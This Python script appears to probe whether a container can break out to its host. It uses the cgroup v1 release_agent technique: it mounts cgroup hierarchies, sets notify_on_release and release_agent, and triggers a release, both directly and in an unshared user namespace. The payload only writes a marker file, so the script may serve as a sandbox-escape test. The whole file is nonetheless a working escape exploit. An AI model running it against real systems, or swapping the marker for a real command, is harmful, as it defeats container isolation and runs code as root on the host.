"""Has a control group's release agent, or a core file's reader, leave a mark on the host."""

import os
import subprocess
import sys

mark = sys.argv[1]
agent = os.path.abspath("agent")
with open(agent, "w") as file:
    file.write(f"#!/bin/sh\necho escaped > {mark}\n")
os.chmod(agent, 0o755)

script = """
mkdir -p /mnt/group
for options in memory pids rdma cpu none,name=attack; do
    mount -t cgroup -o $options cgroup /mnt/group 2> /dev/null || continue
    mkdir -p /mnt/group/x
    echo 1 > /mnt/group/x/notify_on_release
    echo "$1" > /mnt/group/release_agent
    sh -c 'echo $$ > /mnt/group/x/cgroup.procs'
    rmdir /mnt/group/x
    umount /mnt/group
done
for group in /sys/fs/cgroup /sys/fs/cgroup/*; do
    echo "$1" > $group/release_agent
    echo 1 > $group/notify_on_release
    mkdir $group/x && echo 1 > $group/x/notify_on_release && sh -c "echo \\$\\$ > $group/x/cgroup.procs"
    rmdir $group/x
done
"""
for prefix in ([], ["unshare", "--user", "--map-root-user", "--mount", "--cgroup"]):
    subprocess.run([*prefix, "sh", "-c", script, "sh", agent], capture_output=True)
os.unlink(agent)
print("tried everything")
